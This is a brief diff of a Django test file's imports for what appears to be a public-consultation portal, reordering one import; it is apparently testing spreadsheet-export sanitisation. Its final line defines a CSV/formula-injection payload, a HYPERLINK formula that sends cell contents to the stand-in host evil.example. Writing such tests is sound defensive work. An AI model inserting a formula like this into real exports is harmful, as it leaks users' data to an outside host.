@@ -14,10 +14,10 @@ from django.utils import timezone
 
 from accounts.roles import APPROVER, BOARD_HEAD
 from core.exports import FORMULA_STARTS
-from tests.support.portals import client_for
-
 from tests.support.admin import signed_in
 from tests.support.participation import question_data
+from tests.support.portals import client_for
+
 from .test_consultation import comment_data, make_consultation
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"Xem chi tiết")'
